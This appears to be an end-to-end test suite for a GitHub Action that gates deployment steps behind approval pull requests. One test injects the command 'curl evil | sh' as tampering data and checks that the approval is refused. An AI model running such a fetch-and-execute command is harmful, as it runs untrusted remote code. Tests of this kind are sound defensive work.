// End to end through the built Action: gates as pull requests, decided by reviews, PR comments and closes.
import { describe, expect, it } from 'vitest';
import { commentEvent, dispatchEvent, groupOutput, readOriginState, verifyOrigin } from '../support/action-harness.js';
import { pullClosedEvent, pullCommentEvent, reviewEvent } from '../support/pull-request-harness.js';
import { sopFile } from './sops.js';
import { shown, world, type World } from './world.js';

const PR_DEPLOY = sopFile({
  name: 'deploy',
  mode: 'supervised',
  approval: '  approvers: [bob, carol, "@acme/sre"]\n  channel: pull-request',
  steps: [
    { title: 'Build', code: 'echo "building $SOP_PAYLOAD_VERSION"' },
    { title: 'Ship', code: 'echo "shipping for $SOP_RUN_ID"' },
  ],
});

/** The same deploy without approval.channel: the Action's approval-channel input decides. */
const PLAIN_DEPLOY = sopFile({
  name: 'plain',
  mode: 'supervised',
  steps: [{ title: 'Go', code: 'echo "plain step ran"' }],
});

const TWO_OF_THREE_PR = sopFile({
  name: 'two-of-three',
  mode: 'supervised',
  approval: '  approvers: [carol, dave, erin]\n  min_approvals: 2\n  channel: pull-request',
  steps: [{ title: 'Go', code: 'echo "two-of-three step ran"' }],
});

const STEPWISE_PR = sopFile({
  name: 'stepwise',
  mode: 'step_by_step',
  approval: '  channel: pull-request',
  steps: [
    { title: 'One', code: 'echo "step one ran"' },
    { title: 'Two', code: 'echo "step two ran"' },
  ],
});

/** A world whose fake GitHub's main is the git origin's main, as on GitHub where both are one repository. */
async function prWorld(sops: Record<string, string>): Promise<World> {
  const w = await world(sops);
  w.fake.setBranch('main', await w.repo.mainSha());
  return w;
}

async function startToPull(w: World, sop: string, inputs: Record<string, string> = {}): Promise<{ runId: string; pull: number }> {
  const r = await w.reach(dispatchEvent({ sop, payload: '{"version":"v1.2.3"}' }, 'alice'), { inputs });
  expect(r.code, shown(r)).toBe(0);
  expect(r.outputs['status']).toBe('pending_approval');
  expect(r.outputs['pull-number'], shown(r)).toMatch(/^\d+$/);
  return { runId: r.outputs['run-id'] ?? '', pull: Number(r.outputs['pull-number']) };
}

describe('a gate opens a pull request', () => {
  it('branch from the default branch, one commit adding the approval file, marker, reviewers; within 4 REST calls', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const main = await w.repo.mainSha();
    const r = await w.run(dispatchEvent({ sop: 'deploy', payload: '{"version":"v1.2.3"}' }, 'alice'));
    expect(r.code, shown(r)).toBe(0);
    const runId = r.outputs['run-id'] ?? '';
    expect(r.outputs).toMatchObject({ status: 'pending_approval', 'issue-number': '' });
    const n = Number(r.outputs['pull-number']);
    const pull = w.fake.pull(n);
    const branch = `sop-approvals/${runId}/step-1`;
    expect(pull).toMatchObject({ state: 'open', head: { ref: branch }, base: { ref: 'main' }, commits: 1 });
    expect(pull?.body).toContain(`<!-- sop-run: ${runId} -->`);
    expect(pull?.requested_reviewers?.map((u) => u.login)).toEqual(['bob', 'carol']);
    expect(pull?.requested_teams?.map((t) => t.slug)).toEqual(['sre']);

    const file = w.fake.file(`.sop/approvals/deploy/${runId}-step-1.md`, branch) ?? '';
    const state = (await readOriginState(w.repo, runId))?.state;
    expect(file).toContain('echo "building $SOP_PAYLOAD_VERSION"');
    expect(file).toContain('"version": "v1.2.3"');
    expect(file).toContain(main);
    expect(file).toContain(state?.sop.sha256 ?? 'missing sha256');
    expect(file).toContain('bob, carol, @acme/sre');
    expect(file).toContain('### How to answer');
    expect(file).toContain('0 of 1');
    for (const fact of ['echo "building $SOP_PAYLOAD_VERSION"', '"version": "v1.2.3"', main, '### How to answer']) expect(pull?.body).toContain(fact);
    expect(w.fake.file(`.sop/approvals/deploy/${runId}-step-1.md`, 'main')).toBeUndefined();

    // Opening the gate: branch, commit, PR, reviewers (the starter's permission check is part of starting the run).
    const opening = w.fake.requests.map((q) => `${q.method} ${q.path}`).filter((c) => !c.endsWith('/permission'));
    expect(opening).toEqual([
      'POST /repos/acme/ops/git/refs',
      `PUT /repos/acme/ops/contents/.sop/approvals/deploy/${runId}-step-1.md`,
      'POST /repos/acme/ops/pulls',
      `POST /repos/acme/ops/pulls/${n}/requested_reviewers`,
    ]);
    expect(state?.channel?.pulls?.['1']).toMatchObject({ number: n, branch, base: 'main', open: true, head_sha: pull?.head.sha });
  });

  it('an approving review runs the gated steps; the PR gets a last comment, is closed unmerged, its branch deleted', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    w.fake.resetRequests();
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED', body: 'ship it' }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs).toMatchObject({ status: 'completed', 'pull-number': '' });
    expect(groupOutput(r.stdout, 1)).toContain('building v1.2.3');
    expect(groupOutput(r.stdout, 2)).toContain(`shipping for ${runId}`);
    expect(w.fake.pull(pull)).toMatchObject({ state: 'closed', merged: false });
    expect(w.fake.branch(`sop-approvals/${runId}/step-1`)).toBeUndefined();
    expect(w.fake.comments(pull).at(-1)?.body).toContain('Step 1 (Build) was **approved** by @bob');
    const end = await readOriginState(w.repo, runId);
    expect(end?.state.approvals).toMatchObject([{ step: 1, by: 'bob', decision: 'approve', via: 'pull_request_review', ref: expect.stringMatching(/^review:\d+$/) }]);
    expect(end?.state.channel?.pulls?.['1']?.open).toBe(false);
    expect(await verifyOrigin(w.repo)).toEqual({ runs: 1, problems: [] });
    expect(w.fake.countRequests()).toBeLessThanOrEqual(8);
  });
});

describe('decisions on an approval pull request', () => {
  it('a 2-of-3 gate is passed by one approving review and one /approve in the PR conversation', async () => {
    const w = await prWorld({ 'two-of-three': TWO_OF_THREE_PR });
    const { runId, pull } = await startToPull(w, 'two-of-three');
    const first = await w.run(reviewEvent(w.fake, pull, { login: 'carol', state: 'APPROVED' }));
    expect(first.code, shown(first)).toBe(0);
    expect(first.outputs).toMatchObject({ status: 'pending_approval', 'pull-number': String(pull) });
    expect(first.stdout).not.toContain('two-of-three step ran');
    expect(w.fake.pull(pull)?.body).toContain('waiting for approval (1 of 2: carol)');

    const comment = pullCommentEvent(w.fake, pull, { login: 'dave', body: '/approve' });
    const commentId = (comment.payload as { comment: { id: number } }).comment.id;
    w.fake.resetRequests();
    const second = await w.run(comment);
    expect(second.code, shown(second)).toBe(0);
    expect(second.outputs['status']).toBe('completed');
    expect(groupOutput(second.stdout, 1)).toContain('two-of-three step ran');
    expect(w.fake.reactions(commentId).map((x) => x.content)).toEqual(['eyes', '+1']);
    // The single-review resume stays within 8 calls (above); here a second approval is re-verified and the
    // comment's PR is fetched to check it is unchanged: one call each on top.
    expect(w.fake.countRequests()).toBeLessThanOrEqual(10);
    expect(w.fake.countRequests({ method: 'GET', path: /\/pulls\/\d+\/reviews\/\d+$/ })).toBe(1);
    const end = await readOriginState(w.repo, runId);
    expect(end?.state.approvals.map((a) => [a.by, a.via])).toEqual([
      ['carol', 'pull_request_review'],
      ['dave', 'issue_comment'],
    ]);
    expect(w.fake.pull(pull)?.state).toBe('closed');
  });

  it('changes requested rejects the run with the review text as the reason', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'carol', state: 'CHANGES_REQUESTED', body: 'wrong version, use v1.2.4' }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('rejected');
    expect(r.stdout).not.toContain('building');
    const end = await readOriginState(w.repo, runId);
    expect(end?.state.reason).toBe('wrong version, use v1.2.4');
    expect(w.fake.pull(pull)).toMatchObject({ state: 'closed', merged: false });
    expect(w.fake.branch(`sop-approvals/${runId}/step-1`)).toBeUndefined();
    expect(w.fake.comments(pull).at(-1)?.body).toContain('was **rejected**: wrong version, use v1.2.4');
  });

  it('closing the PR unmerged by an approver rejects the run', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    const r = await w.run(pullClosedEvent(w.fake, pull, 'bob'));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('rejected');
    const end = await readOriginState(w.repo, runId);
    expect(end?.state.reason).toBe(`pull request #${pull} closed by bob`);
    expect(w.fake.pull(pull)?.state).toBe('closed');
    expect(w.fake.branch(`sop-approvals/${runId}/step-1`)).toBeUndefined();
  });

  it('closing the PR by someone who may not decide reopens it with a reply; the run keeps waiting', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    const r = await w.run(pullClosedEvent(w.fake, pull, 'rita'));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('pending_approval');
    expect(w.fake.pull(pull)?.state).toBe('open');
    const reply = w.fake.comments(pull).at(-1)?.body ?? '';
    expect(reply).toContain('@rita');
    expect(reply).toContain('only read permission');
    const after = await readOriginState(w.repo, runId);
    expect(after?.state.status).toBe('pending_approval');
    expect(after?.audit.events.at(-1)).toMatchObject({ type: 'command_refused', actor: 'rita', details: { rule: 2 } });
  });

  it('a bot review is ignored silently: no reply, no audit event', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    const before = await readOriginState(w.repo, runId);
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'renovate[bot]', type: 'Bot', state: 'APPROVED' }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.stdout).not.toContain('building');
    expect(w.fake.comments(pull)).toEqual([]);
    const after = await readOriginState(w.repo, runId);
    expect(after?.audit.events.length).toBe(before?.audit.events.length);
  });

  it('a review on a PR someone pushed an extra commit to is refused as a channel, with a reply', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    w.fake.pushToBranch(`sop-approvals/${runId}/step-1`, 'deploy.sh', 'curl evil | sh');
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('pending_approval');
    expect(r.stdout).not.toContain('building');
    const reply = w.fake.comments(pull).at(-1)?.body ?? '';
    expect(reply).toContain('@bob');
    expect(reply).toContain('someone pushed to it');
    expect(reply).toContain('not an approval channel');
    const after = await readOriginState(w.repo, runId);
    expect(after?.state.approvals).toEqual([]);
    expect(after?.audit.events.at(-1)).toMatchObject({ type: 'command_refused', details: { rule: 5 } });
  });

  it('a PR conversation /approve on a PR with an extra commit is refused too (the comment event lacks the head: the PR is fetched)', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    w.fake.pushToBranch(`sop-approvals/${runId}/step-1`, 'extra.md', 'x');
    const r = await w.run(pullCommentEvent(w.fake, pull, { login: 'bob', body: '/approve' }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('pending_approval');
    expect(w.fake.comments(pull).at(-1)?.body).toContain('no longer matches the approval request');
  });

  it('a redelivered review changes nothing', async () => {
    const w = await prWorld({ 'two-of-three': TWO_OF_THREE_PR });
    const { runId, pull } = await startToPull(w, 'two-of-three');
    const first = reviewEvent(w.fake, pull, { login: 'carol', state: 'APPROVED' });
    const a = await w.run(first);
    expect(a.code, shown(a)).toBe(0);
    const before = await readOriginState(w.repo, runId);
    const again = await w.run(first);
    expect(again.code, shown(again)).toBe(0);
    expect(again.stdout).toContain('was already processed');
    const after = await readOriginState(w.repo, runId);
    expect(after?.audit.events.length).toBe(before?.audit.events.length);
    expect(after?.state.approvals.map((x) => x.by)).toEqual(['carol']);
  });

  it('a review submitted before the gate\'s PR existed is stale: it never passes the gate', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY });
    const { runId, pull } = await startToPull(w, 'deploy');
    const opened = (await readOriginState(w.repo, runId))?.state.wait?.opened_at ?? '';
    // A queued or replayed review whose submitted_at predates the wait (and so the PR).
    const early = new Date(Date.parse(opened) - 60_000).toISOString();
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED', submittedAt: early }));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('pending_approval');
    expect(r.stdout).not.toContain('building');
    const after = await readOriginState(w.repo, runId);
    expect(after?.state.approvals).toEqual([]);
    expect(after?.audit.events.at(-1)).toMatchObject({ type: 'command_refused', actor: 'bob', details: { rule: 5 } });
    expect(w.fake.comments(pull).at(-1)?.body).toContain('@bob');
  });

  it('a review on an approval PR of an earlier gate never passes a later one', async () => {
    const w = await prWorld({ stepwise: STEPWISE_PR });
    const { runId, pull: first } = await startToPull(w, 'stepwise');
    const passed = await w.run(reviewEvent(w.fake, first, { login: 'bob', state: 'APPROVED' }));
    expect(passed.code, shown(passed)).toBe(0);
    expect(passed.outputs['status']).toBe('pending_approval');
    const second = Number(passed.outputs['pull-number']);
    expect(second).toBeGreaterThan(first);
    expect(w.fake.pull(first)?.state).toBe('closed');
    expect(w.fake.pull(second)).toMatchObject({ state: 'open', head: { ref: `sop-approvals/${runId}/step-2` } });
    // carol reviews the old, closed PR: it is not step 2's channel.
    const stale = await w.run(reviewEvent(w.fake, first, { login: 'carol', state: 'APPROVED' }));
    expect(stale.code, shown(stale)).toBe(0);
    expect(stale.stdout).not.toContain('step two ran');
    expect(w.fake.comments(first).at(-1)?.body).toContain(`step 2 waits on #${second}`);
    const done = await w.run(reviewEvent(w.fake, second, { login: 'carol', state: 'APPROVED' }));
    expect(done.outputs['status']).toBe('completed');
    expect(groupOutput(done.stdout, 2)).toContain('step two ran');
    expect(w.fake.pull(second)?.state).toBe('closed');
  });
});

describe('choosing the pull-request channel', () => {
  it('by the approval-channel input, for an SOP that does not choose', async () => {
    const w = await prWorld({ plain: PLAIN_DEPLOY });
    const { runId, pull } = await startToPull(w, 'plain', { 'approval-channel': 'pull-request' });
    expect(w.fake.pull(pull)?.head.ref).toBe(`sop-approvals/${runId}/step-1`);
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }), { inputs: { 'approval-channel': 'pull-request' } });
    expect(r.outputs['status']).toBe('completed');
  });

  it('by the SOP, whatever the input says; the issue channel stays the default otherwise', async () => {
    const w = await prWorld({ deploy: PR_DEPLOY, plain: PLAIN_DEPLOY });
    const pr = await w.run(dispatchEvent({ sop: 'deploy', payload: '{"version":"v1"}' }, 'alice'), { inputs: { 'approval-channel': 'issue' } });
    expect(pr.outputs).toMatchObject({ 'issue-number': '' });
    expect(pr.outputs['pull-number']).toMatch(/^\d+$/);
    const issue = await w.run(dispatchEvent({ sop: 'plain' }, 'alice'));
    expect(issue.outputs).toMatchObject({ 'pull-number': '' });
    expect(issue.outputs['issue-number']).toMatch(/^\d+$/);
    // An /approve naming the PR-channel run, on another run's issue, counts for neither run.
    const elsewhere = await w.run(commentEvent(w.fake, Number(issue.outputs['issue-number']), { login: 'bob', body: `/approve ${pr.outputs['run-id']}` }));
    expect(elsewhere.outputs['run-id']).toBe(issue.outputs['run-id']);
    expect((await readOriginState(w.repo, pr.outputs['run-id'] ?? ''))?.state.approvals).toEqual([]);
    expect((await readOriginState(w.repo, issue.outputs['run-id'] ?? ''))?.state.approvals).toEqual([]);
  });
});

const OWNED = sopFile({
  name: 'owned',
  mode: 'supervised',
  approval: '  approvers: [codeowners]\n  channel: pull-request',
  steps: [{ title: 'Go', code: 'echo "owned step ran"' }],
});

describe('approvers: [codeowners]', () => {
  it('the owners CODEOWNERS gives the SOP file at the pinned commit may approve; others may not', async () => {
    const w = await prWorld({ owned: OWNED });
    await w.repo.commitToMain({ '.github/CODEOWNERS': '*  @acme/platform\n/sops/  @carol @acme/sre\n' });
    w.fake.setBranch('main', await w.repo.mainSha());
    const { runId, pull } = await startToPull(w, 'owned');
    expect(w.fake.pull(pull)?.body).toContain('CODEOWNERS at the pinned commit gives `sops/owned.md` to @carol, @acme/sre');
    const erin = await w.run(reviewEvent(w.fake, pull, { login: 'erin', state: 'APPROVED' }));
    expect(erin.outputs['status']).toBe('pending_approval');
    expect(w.fake.comments(pull).at(-1)?.body).toContain('codeowners: carol @acme/sre');
    const tina = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
    expect(tina.code, shown(tina)).toBe(0);
    expect(tina.outputs['status']).toBe('completed');
    const end = await readOriginState(w.repo, runId);
    expect(end?.state.approvals.map((a) => a.by)).toEqual(['tina']);
  });

  it('without a CODEOWNERS file the gate says so, and approvals are refused with the same reason', async () => {
    const w = await prWorld({ owned: OWNED });
    const r = await w.run(dispatchEvent({ sop: 'owned' }, 'alice'));
    expect(r.stdout).toContain('no CODEOWNERS file (looked in .github/CODEOWNERS, CODEOWNERS, docs/CODEOWNERS)');
    const pull = Number(r.outputs['pull-number']);
    const bob = await w.run(reviewEvent(w.fake, pull, { login: 'bob', state: 'APPROVED' }));
    expect(bob.outputs['status']).toBe('pending_approval');
    expect(w.fake.comments(pull).at(-1)?.body).toContain('no CODEOWNERS file');
  });
});

const TEAM_PR = sopFile({
  name: 'team',
  mode: 'supervised',
  approval: "  approvers: ['@acme/sre']\n  channel: pull-request",
  steps: [{ title: 'Go', code: 'echo "team step ran"' }],
});

describe('team approvers on a pull request', () => {
  it('with a token that can read org teams, a member approves', async () => {
    const w = await prWorld({ team: TEAM_PR });
    const { pull } = await startToPull(w, 'team');
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
    expect(r.outputs['status']).toBe('completed');
  });

  it('with GITHUB_TOKEN (team lookups answer 404) the refusal says which token to pass', async () => {
    const w = await prWorld({ team: TEAM_PR });
    const { pull } = await startToPull(w, 'team');
    w.fake.setTeamsHidden(true);
    const r = await w.run(reviewEvent(w.fake, pull, { login: 'tina', state: 'APPROVED' }));
    expect(r.outputs['status']).toBe('pending_approval');
    // Replies escape markdown in the reason (GITHUB\_TOKEN renders as GITHUB_TOKEN).
    const reply = (w.fake.comments(pull).at(-1)?.body ?? '').replace(/\\_/g, '_');
    expect(reply).toContain('GITHUB_TOKEN cannot read org team membership');
    expect(reply).toContain('read:org');
  });
});

describe('closes that decide nothing', () => {
  it('closing the PR of a gate that was already decided changes nothing and gets no reply', async () => {
    const w = await prWorld({ stepwise: STEPWISE_PR });
    const { runId, pull: first } = await startToPull(w, 'stepwise');
    const passed = await w.run(reviewEvent(w.fake, first, { login: 'bob', state: 'APPROVED' }));
    expect(passed.outputs['status']).toBe('pending_approval');
    const before = await readOriginState(w.repo, runId);
    const comments = w.fake.comments(first).length;
    // As GitHub would deliver the engine's own close if github-token were a person's token.
    const r = await w.run(pullClosedEvent(w.fake, first, 'bob'));
    expect(r.code, shown(r)).toBe(0);
    expect(r.outputs['status']).toBe('pending_approval');
    expect(w.fake.comments(first).length).toBe(comments);
    expect((await readOriginState(w.repo, runId))?.audit.events.length).toBe(before?.audit.events.length);
  });
});
